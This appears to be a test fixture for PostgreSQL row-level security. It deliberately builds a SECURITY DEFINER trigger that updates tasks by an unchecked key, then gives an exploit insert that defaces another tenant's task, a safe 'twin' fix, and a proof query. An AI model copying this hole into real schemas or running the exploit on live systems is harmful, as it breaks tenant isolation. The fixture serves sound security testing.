-- A definer trigger writes what an event says into the row it names by an unchecked key.
-- object: public.apply_event()
-- object: public.task_events
-- base: projects
--- setup
CREATE TABLE task_events (
    org_id uuid NOT NULL REFERENCES orgs, id uuid NOT NULL DEFAULT gen_random_uuid(), task_id uuid NOT NULL, title text NOT NULL, PRIMARY KEY (org_id, id)
);
ALTER TABLE task_events ENABLE ROW LEVEL SECURITY, FORCE ROW LEVEL SECURITY;
CREATE POLICY org ON task_events USING (org_id = (SELECT current_setting('app.org_id')::uuid));
GRANT SELECT, INSERT ON task_events TO {app};
RESET ROLE;
CREATE FUNCTION apply_event() RETURNS trigger LANGUAGE plpgsql SECURITY DEFINER SET search_path = public, pg_temp AS $$
BEGIN
    UPDATE tasks SET title = NEW.title WHERE id = NEW.task_id;
    RETURN NEW;
END $$;
CREATE TRIGGER apply BEFORE INSERT ON task_events FOR EACH ROW EXECUTE FUNCTION apply_event();
--- leak
--- twin
RESET ROLE;
ALTER FUNCTION apply_event() SECURITY INVOKER;
--- exploit
INSERT INTO task_events (org_id, task_id, title) VALUES ('{A}', 'bbbbbbbb-0000-4000-8000-000000000002', 'defaced');
SELECT 1;
--- proof
SELECT FROM tasks WHERE title = 'defaced' AND id = 'bbbbbbbb-0000-4000-8000-000000000002';
